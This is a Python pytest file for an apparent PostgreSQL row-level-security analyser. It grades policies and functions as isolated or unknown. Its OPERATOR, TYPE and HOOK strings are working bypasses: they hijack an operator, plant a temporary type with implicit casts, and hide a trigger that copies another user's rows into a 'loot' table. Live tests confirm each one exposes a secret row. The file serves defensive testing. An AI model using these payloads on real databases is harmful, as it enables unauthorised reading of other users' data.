"""A body means what its caller makes of it, where he sets its path or may make operators, types and functions."""

from collections.abc import Callable, Mapping
from typing import Any

import psycopg
import pytest

FIGURES = """
do $$ begin if not exists (select from pg_roles where rolname = 'analyst') then create role analyst; end if; end $$;
create schema mine;
revoke create on schema public from public;
create table figures (id uuid primary key, login text not null, title text);
alter table figures enable row level security;
grant usage on schema public, mine to analyst;
grant select on figures to analyst;
create function is_mine(l text) returns boolean language {language} stable {how} as $$ {body} $$;
create policy of_login on figures for select to analyst using (is_mine(login));
"""
MAKES = "grant create on schema mine to analyst;"
NO_TEMP = "do $$ begin execute format('revoke temp on database %I from public', current_database()); end $$;"


def figures(body: str, how: str = "", language: str = "sql") -> str:
    return FIGURES.format(language=language, how=how, body=body)


PLAIN, CAST = "select l = current_user", "select l = current_user::text"
RUN = "begin return l = current_user; end"


@pytest.mark.parametrize(
    ("script", "verdict"),
    [
        (figures(PLAIN), "isolated"),
        (figures(PLAIN) + MAKES, "unknown"),
        (figures(PLAIN, "set search_path = ''") + MAKES, "isolated"),
        (figures(PLAIN, "set search_path = pg_catalog, mine"), "isolated"),
        (figures(PLAIN, "set search_path = pg_catalog, mine") + MAKES, "unknown"),
        (figures(CAST), "unknown"),
        (figures(CAST) + NO_TEMP, "isolated"),
        (figures(CAST, "set search_path = ''"), "unknown"),
        (figures(CAST, "set search_path = pg_catalog, pg_temp"), "isolated"),
        (figures("select l = current_user::varchar"), "isolated"),  # a word of the grammar
        (figures(RUN, language="plpgsql"), "isolated"),
        (figures(RUN, language="plpgsql") + MAKES, "unknown"),
        (figures(f"declare t text; {RUN}", language="plpgsql"), "unknown"),
        (figures(f"declare t uuid default null; {RUN}", language="plpgsql"), "unknown"),
        (figures(f"declare t uuid not null := l; {RUN}", language="plpgsql"), "unknown"),
        (figures(f"declare r record; {RUN}", language="plpgsql"), "unknown"),
        (figures(f"declare r int4; {RUN}", language="plpgsql"), "unknown"),
        (figures(f"declare r int; s timestamp with time zone[]; {RUN}", language="plpgsql"), "isolated"),
        (figures("select l = current_user from json_to_recordset('[]') as x(a uuid)"), "unknown"),
        (figures(CAST, "set search_path = pg_temp, pg_catalog"), "unknown"),
        (figures(f"declare t /* a */ constant varchar := 'begin'; {RUN}", language="plpgsql"), "isolated"),
        (figures("select l = current_user -- ::text"), "isolated"),
        (figures("select l = x.k from json_to_record('{}') as x(k text)"), "unknown"),
        (figures("begin execute 'select l::text'; return l = current_user; end", language="plpgsql"), "unknown"),
        (figures(PLAIN) + "create function f(x int) returns int language sql security definer as 'select x::int8';",
         "unknown"),
        (figures(PLAIN) + "create function f(x int) returns int language sql security definer as 'select x + 1';",
         "isolated"),
    ],
)  # fmt: skip
def test_bodies(script: str, verdict: str, verdicts: Callable[..., Mapping[str, str]]) -> None:
    """What he can make part of a body decides; whatever runs as its owner then decides about everything."""
    found = verdicts(script, table="figures", key="login", role="analyst", surface="sql")
    assert found["select"] == verdict


def test_only_who_sends_sql(verdicts: Callable[..., Mapping[str, str]]) -> None:
    """An application's own statements make no types and set no path for the caller."""
    policy = "create policy p on docs to authenticated using (org_id::text = mine());"
    script = "create function mine() returns text language sql stable as 'select (auth.jwt() ->> $$org$$)::text';"
    assert verdicts(script + policy)["select"] == "isolated"


LOG = """
create table events (id int primary key);
create table marks (event int references events {action});
create function log_it() returns void language sql security definer set search_path = '' as
    $$ insert into public.events values (1) $$;
grant trigger on {table} to analyst;
"""


@pytest.mark.parametrize(
    ("table", "action", "verdict"),
    [
        ("events", "", "unknown"),
        ("marks", "", "isolated"),  # nobody writes it as its owner
        ("marks", "on delete cascade", "unknown"),
        ("figures", "", "isolated"),
    ],
)
def test_triggers_of_his_own(table: str, action: str, verdict: str, verdicts: Callable[..., Mapping[str, str]]) -> None:
    """His trigger runs with an owner's rights where a function, or a foreign key, writes the table as one."""
    script = figures(PLAIN) + LOG.format(table=table, action=action)
    assert verdicts(script, table="figures", key="login", role="analyst", surface="sql")["select"] == verdict


OPERATOR = """
create function mine.yes(text, name) returns boolean language sql immutable as 'select true';
create operator mine.= (leftarg = text, rightarg = name, function = mine.yes);
set search_path = mine, pg_catalog
"""
TYPE = """
create type pg_temp.text as (x int);
create function pg_temp.taken(name) returns pg_temp.text language sql immutable as 'select row(1)::pg_temp.text';
create function pg_temp.given(pg_temp.text) returns pg_catalog.text language sql immutable as 'select $$bob$$';
create cast (name as pg_temp.text) with function pg_temp.taken(name);
create cast (pg_temp.text as pg_catalog.text) with function pg_temp.given(pg_temp.text) as implicit
"""


HOOK = """
create temporary table loot (title text);
create function pg_temp.copied() returns trigger language plpgsql as
    $$ begin insert into pg_temp.loot select title from public.figures; return null; end $$;
create trigger copied after insert on events for each row execute function pg_temp.copied();
select log_it();
"""


@pytest.mark.parametrize(
    ("script", "attack"),
    [
        (figures(PLAIN) + MAKES, OPERATOR),
        (figures(CAST, "set search_path = ''"), TYPE),
    ],
)
def test_it_can_be_done(script: str, attack: str, connection: psycopg.Connection[Any]) -> None:
    """On a server: an operator of the caller's, and a temporary type under an empty path, show another's row."""
    connection.execute(script.encode())
    connection.execute("insert into figures values (gen_random_uuid(), 'bob', 'secret')")
    connection.execute("set role analyst")
    assert connection.execute("select title from public.figures").fetchall() == []
    connection.execute(attack.encode())
    assert connection.execute("select title from public.figures").fetchall() == [("secret",)]


def test_a_trigger_runs_as_an_owner(connection: psycopg.Connection[Any]) -> None:
    """On a server: a temporary function as a trigger reads what the owner of the writing function may."""
    connection.execute((figures(PLAIN) + LOG.format(table="events", action="")).encode())
    connection.execute("insert into figures values (gen_random_uuid(), 'bob', 'secret')")
    connection.execute("set role analyst")
    connection.execute(HOOK.encode())
    assert connection.execute("select title from loot").fetchall() == [("secret",)]
